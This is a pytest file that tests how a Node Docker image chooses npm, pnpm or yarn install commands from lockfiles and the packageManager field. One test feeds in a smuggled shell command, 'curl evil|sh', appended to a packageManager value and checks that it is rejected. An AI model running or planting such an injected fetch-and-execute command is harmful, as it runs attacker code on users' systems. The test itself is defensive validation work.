"""The image installs a JS task's dependencies from the lockfile the session showed:
npm ci, pnpm install --frozen-lockfile, yarn --frozen-lockfile (classic) or --immutable
(berry), the package manager at the version package.json or the lockfile names."""

from __future__ import annotations

import json

from repo2rlenv.kinds.node_image import NodeImage, install_plan


def package(manager: str | None = None) -> str:
    body = {"name": "p", "devDependencies": {"vitest": "^1.6.0"}}
    if manager:
        body["packageManager"] = manager
    return json.dumps(body)


def dockerfile(known: dict[str, str], root: str = "app") -> str:
    image = NodeImage(cwd=root, install=install_plan(known, root, "2026-01-02"), node_version=None)
    return "\n".join(image.head() + image.after())


def test_pnpm_lockfile_installs_pnpm_at_the_package_manager_version():
    text = dockerfile(
        {"app/package.json": package("pnpm@8.15.4+sha512.abc"), "app/pnpm-lock.yaml": "x"}
    )
    assert "npm install -g --no-audit --no-fund pnpm@8.15.4\n" in text + "\n"
    assert "pnpm install --frozen-lockfile" in text
    assert 'org.rlenv-harvest.node-install="pnpm install --frozen-lockfile (pnpm@8.15.4)"' in text
    assert "npm ci" not in text and "--before" not in text


def test_pnpm_version_from_the_lockfile_format_without_package_manager():
    for lock, major in (("'9.0'", "9"), ("'6.0'", "8"), ("5.4", "7")):
        plan = install_plan(
            {"package.json": package(), "pnpm-lock.yaml": f"lockfileVersion: {lock}\n"}, ""
        )
        assert plan.tool == f"pnpm@{major}", lock


def test_yarn_classic_and_berry():
    classic = install_plan(
        {"package.json": package(), "yarn.lock": "# yarn lockfile v1\n\na@1:\n  version 1\n"}, ""
    )
    assert classic.command == "yarn install --frozen-lockfile" and classic.tool == "yarn@1"
    berry_lock = "__metadata:\n  version: 8\n  cacheKey: 10\n"
    berry = install_plan({"package.json": package(), "yarn.lock": berry_lock}, "")
    assert berry.command == "yarn install --immutable"
    assert berry.tool == "@yarnpkg/cli-dist@4"
    assert "YARN_NODE_LINKER=node-modules" in berry.env
    named = install_plan({"package.json": package("yarn@3.6.1"), "yarn.lock": berry_lock}, "")
    assert named.tool == "@yarnpkg/cli-dist@3.6.1"


def test_package_manager_field_picks_among_lockfiles_and_hostile_values_are_ignored():
    both = {"package-lock.json": "{}", "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}
    assert install_plan({"package.json": package("pnpm@9.1.0"), **both}, "").tool == "pnpm@9.1.0"
    assert install_plan({"package.json": package(), **both}, "").command.startswith("npm ci")
    hostile = install_plan(
        {"package.json": package("pnpm@1.0.0; curl evil|sh"), "pnpm-lock.yaml": "x"}, ""
    )
    assert hostile.tool == "pnpm@9"  # the shape is refused: the lockfile's default


def test_without_a_lockfile_npm_install_as_of_the_session_day():
    text = dockerfile({"app/package.json": package("pnpm@8.15.4")})
    assert "npm install --no-audit --no-fund --before=2026-01-02" in text
    assert "pnpm" not in text.replace("org.rlenv-harvest", "")


def test_a_build_task_keeps_a_pnpm_lockfile_and_installs_with_pnpm():
    from repo2rlenv.kinds import KINDS
    from repo2rlenv.replay import replay
    from tests.mining.factory import SessionBuilder
    from tests.runners.test_node_build import CODE, CTX, PASSED, ROOT, TESTS, files

    built = SessionBuilder().user("Write slug in src/slug.js, tested with vitest.")
    built.write(f"{ROOT}/package.json", package("pnpm@9.1.0"))
    built.write(f"{ROOT}/pnpm-lock.yaml", "lockfileVersion: '9.0'\n")
    built.write(f"{ROOT}/src/slug.js", CODE).write(f"{ROOT}/src/slug.test.js", TESTS)
    (bundle,) = list(KINDS["build"](replay(built.run("npx vitest run", PASSED, 0).build()), CTX))
    content = files(bundle)
    assert content["tests/protected/pnpm-lock.yaml"] == "lockfileVersion: '9.0'\n"
    assert "pnpm install --frozen-lockfile" in content["environment/Dockerfile"]
    assert "pnpm@9.1.0" in content["environment/Dockerfile"]
